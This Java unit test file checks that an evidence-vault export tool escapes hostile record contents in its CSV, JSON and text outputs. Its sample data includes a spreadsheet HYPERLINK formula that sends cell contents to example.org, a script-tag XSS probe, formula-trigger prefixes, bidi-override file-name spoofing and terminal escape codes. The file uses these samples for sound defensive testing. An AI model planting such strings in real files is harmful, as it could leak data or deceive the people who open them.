package dev.evidencevault.papers;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.evidencevault.Actor;
import dev.evidencevault.AppendRefusedException;
import dev.evidencevault.Event;
import dev.evidencevault.SmallVault;
import dev.evidencevault.TenantLog;
import dev.evidencevault.TenantQuota;
import dev.evidencevault.Vault;
import dev.evidencevault.bundle.BundleLayout;
import dev.evidencevault.bundle.Completeness;
import dev.evidencevault.bundle.PaperFiles;
import dev.evidencevault.cases.Order;
import dev.evidencevault.format.Change;
import dev.evidencevault.format.Json;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Records, and an order, that were written to do harm in what is made from them. */
class HostileRecordsTest {
    private static final String FORMULA = "=HYPERLINK(\"http://example.org/?\"&A1,\"ok\")";
    private static final List<String> TEXTS = List.of(
            FORMULA,
            "@SUM(1)",
            "-2+3",
            "'quoted",
            "a,\"b\"\r\n\"c\",d",
            "\u202egpj.exe\u2066x\u2069",
            "\u0000\u0007\u001b[31m\u007f\u0085",
            "| a | <script>alert(1)</script> `x` {order} ![i](http://example.org)",
            "\u27e6U+0041\u27e7",
            "\u6771\u4eac\u3000\u65e5\u672c",
            "x".repeat(8000));

    @TempDir
    private Path directory;

    private Map<String, byte[]> papers(Order order, String... details) throws Exception {
        Path path = directory.resolve("vault");
        try (Vault vault = Vault.create(path, SmallVault.SECRET, SmallVault.options())) {
            TenantLog log = vault.tenant("acme");
            for (String text : TEXTS) {
                log.appendAndWait(Event.of(text)
                        .service(text)
                        .reason(text)
                        .actor(Actor.tenant(text).type(text).session(text).onBehalfOf("other " + text))
                        .role(text)
                        .ticket(text)
                        .target(text, text)
                        .target(text)
                        .sourceIp(text)
                        .sharedEventId(text)
                        .assumed(text)
                        .original(text.repeat(50))
                        .build());
            }
            for (String detail : details) {
                log.appendAndWait(Event.of("act").details(detail).build());
            }
        }
        PaperDesk desk = PaperDesk.export(path, order, Completeness.HEADERS, directory.resolve("bundle.zip"));
        return desk.papers();
    }

    @Test
    void tablesShowHostileTextsWholeAndAsTexts() throws Exception {
        Map<String, byte[]> papers = papers(PaperDesk.order("acme", ""));
        List<Map<String, String>> items = PaperDesk.rows(papers, PaperFiles.ITEMS);
        List<Map<String, String>> view = PaperDesk.rows(papers, PaperFiles.RECORDS_VIEW);
        for (int i = 0; i < TEXTS.size(); i++) {
            String text = TEXTS.get(i);
            assertEquals(text, PaperDesk.value(items.get(i).get("action")));
            assertEquals(text, PaperDesk.value(items.get(i).get("actorId")));
            assertEquals("other " + text, PaperDesk.value(items.get(i).get("onBehalfOf")));
            assertEquals(
                    text + " " + text + "; " + text,
                    PaperDesk.value(items.get(i).get("targets")));
            for (String column :
                    List.of("service", "reason", "actor.type", "actor.session", "privilege.role", "source.ip")) {
                assertEquals(text, PaperDesk.value(view.get(i).get(column)), column);
            }
        }
        for (String name : papers.keySet()) {
            String text = PaperDesk.text(papers, name);
            if (name.endsWith(".csv")) {
                assertFalse(text.matches("(?s).*(^|[,\n])\"[=+@-].*"), name);
                assertEquals(PaperDesk.table(text).size(), text.lines().count(), name);
            }
            if (!name.endsWith(".jsonl")) {
                assertTrue(
                        text.codePoints().noneMatch(c -> c >= 0x202a && c <= 0x202e || c >= 0x2066 && c <= 0x2069),
                        name);
            }
        }
        assertFalse(PaperDesk.text(papers, PaperFiles.INVENTORY).contains("<script>"));
    }

    @Test
    void eventsKeepOddNumbersAndHalvesOfPairs() throws Exception {
        String details = "{\"big\":123456789012345678901234567890,\"small\":1.50,\"e\":1E+400,\"half\":\"\\ud83d\","
                + "\"tail\":\"\\ude00 x\",\"escape\":\"\\u0000\\\\u0041\"}";
        Map<String, byte[]> papers = papers(PaperDesk.order("acme", ""), details);
        List<String> events =
                PaperDesk.text(papers, PaperFiles.OCSF_VIEW).lines().toList();
        for (String event : events) {
            Json.parseObject(event.getBytes(StandardCharsets.UTF_8), "an event");
        }
        String last = events.get(events.size() - 1);
        assertTrue(last.contains("\"details\":" + details), last);
        List<Map<String, String>> view = PaperDesk.rows(papers, PaperFiles.RECORDS_VIEW);
        assertEquals(details, PaperDesk.value(view.get(view.size() - 1).get("details")));
    }

    @Test
    void anOrderWithMarksIsShownAsText() throws Exception {
        Order order =
                Order.parse(("{\"order\":\"=1+1|<b>\",\"issuer\":\"\u202eCourt `x`\",\"legalBasis\":\"{records}\","
                                + "\"tenant\":\"acme\",\"requestedBy\":\"@Mori\",\"approvedBy\":\"[Sato](http://example.org)\"}")
                        .getBytes(StandardCharsets.UTF_8));
        Map<String, byte[]> papers = papers(order);
        Map<String, String> summary = PaperDesk.rows(papers, PaperFiles.SUMMARY).get(0);
        assertEquals("'=1+1|<b>", summary.get("order"));
        assertEquals("\u27e6U+202E\u27e7Court `x`", summary.get("issuer"));
        for (String name : List.of(PaperFiles.CERTIFICATE_SYSTEM, PaperFiles.CERTIFICATE_JA, PaperFiles.INVENTORY)) {
            String text = PaperDesk.text(papers, name);
            assertFalse(text.contains("<b>"), name);
            assertTrue(text.contains("| {records} |"), name);
        }
        Json.parseObject(papers.get(PaperFiles.CASE), "case");
    }

    @Test
    void aHugeRecordIsOneRowThatSaysWhatIsLeftOut() throws Exception {
        Path path = directory.resolve("vault");
        String target = "\u202e" + "t".repeat(2000);
        try (Vault vault = Vault.create(path, SmallVault.SECRET, SmallVault.options())) {
            Event.Builder event = Event.of("act").original("=" + "o".repeat(1 << 20));
            for (int i = 0; i < 1000; i++) {
                event.target(target);
            }
            vault.tenant("acme").appendAndWait(event.build());
        }
        Map<String, byte[]> papers =
                PaperDesk.export(path, "", directory.resolve("bundle.zip")).papers();
        String targets = PaperDesk.rows(papers, PaperFiles.ITEMS).get(0).get("targets");
        assertTrue(targets.matches("(?s).*\u27e6\\+\\d+\u27e7"), targets.substring(targets.length() - 20));
        int shown = PaperDesk.value(targets.substring(0, targets.lastIndexOf(VisibleText.OPEN)))
                .length();
        int left = Integer.parseInt(targets.substring(targets.lastIndexOf('+') + 1, targets.length() - 1));
        assertEquals(1000 * target.length() + 999 * 2, shown + left);
        String original = PaperDesk.rows(papers, PaperFiles.RECORDS_VIEW).get(0).get("original");
        assertEquals("'=" + "o".repeat(31_999) + "\u27e6+" + ((1 << 20) - 31_999) + "\u27e7", original);
        assertTrue(papers.get(PaperFiles.INVENTORY).length < 10_000);
    }

    @Test
    void gapsAndChangesAreInTheirPapers() throws Exception {
        Path path = directory.resolve("vault");
        Clock still = Clock.fixed(Instant.parse("2026-05-02T00:00:00Z"), ZoneOffset.UTC);
        try (Vault vault = Vault.create(
                path,
                SmallVault.SECRET,
                SmallVault.options().withClock(still).withQuotas(tenant -> new TenantQuota(4, 1 << 20)))) {
            TenantLog log = vault.tenant("acme");
            log.appendChange(new Change(Change.What.POLICY, null, FORMULA, "\u202enew"))
                    .get();
            for (int i = 0; i < 4; i++) {
                log.appendAndWait(Event.of("act").actor(Actor.tenant("bob")).build());
            }
            assertThrows(
                    AppendRefusedException.class,
                    () -> log.append(Event.of("act").build()));
        }
        PaperDesk desk = PaperDesk.export(path, "'actors':['alice']", directory.resolve("bundle.zip"));
        Map<String, byte[]> papers = desk.papers();
        Map<String, String> summary = PaperDesk.rows(papers, PaperFiles.SUMMARY).get(0);
        assertEquals("2", summary.get("records"), PaperDesk.text(desk.files(), BundleLayout.RECORDS));
        assertEquals("1", summary.get("gaps"));
        assertEquals("1", summary.get("eventsRefused"));
        assertEquals("1", summary.get("changes"));
        assertEquals("0", summary.get("actors"));
        Map<String, String> error = PaperDesk.rows(papers, PaperFiles.ERRORS).get(0);
        assertEquals("gap", error.get("kind"));
        assertEquals("1", error.get("count"));
        assertTrue(error.get("reason").startsWith("1 events were refused"), error.get("reason"));
        List<Map<String, String>> inventory = PaperDesk.rows(papers, PaperFiles.INVENTORY_TABLE);
        assertEquals(
                "\u8a18\u9332\u65b9\u91dd\u306e\u5909\u66f4", inventory.get(0).get("\u5185\u5bb9"));
        assertEquals("\u6b20\u843d\u306e\u8a18\u9332", inventory.get(1).get("\u8a18\u9332\u306e\u7a2e\u5225"));
        String event =
                PaperDesk.text(papers, PaperFiles.OCSF_VIEW).lines().toList().get(0);
        assertTrue(event.contains("\"class_uid\":0") && event.contains("\"type_uid\":99"), event);
    }
}
